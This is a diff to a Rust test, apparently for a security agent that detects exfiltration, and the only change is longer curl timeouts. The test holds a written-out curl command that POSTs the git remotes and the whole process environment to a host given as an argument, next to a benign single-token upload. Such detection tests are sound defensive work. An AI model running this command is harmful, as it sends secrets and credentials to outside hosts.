@@ -118,11 +118,11 @@ pub fn an_uploader_sends_the_environment() {
             .run()
             .ok()
     };
-    let attack = job("curl -sm 5 -X POST -d \"$(git remote -v 2>/dev/null) $(env)\" \"$1\"; :");
+    let attack = job("curl -sm 60 -X POST -d \"$(git remote -v 2>/dev/null) $(env)\" \"$1\"; :");
     found(&agent, attack.pid, "bulk-send");
     // The real uploader sends the one token it was given.
     let twin = job(
-        "printf 'header = \"Authorization: Bearer %s\"\\n' \"$GITHUB_TOKEN\" | curl -sm 5 -K - \"$1\"; :",
+        "printf 'header = \"Authorization: Bearer %s\"\\n' \"$GITHUB_TOKEN\" | curl -sm 60 -K - \"$1\"; :",
     );
     acquitted(&agent, twin.pid);
 }
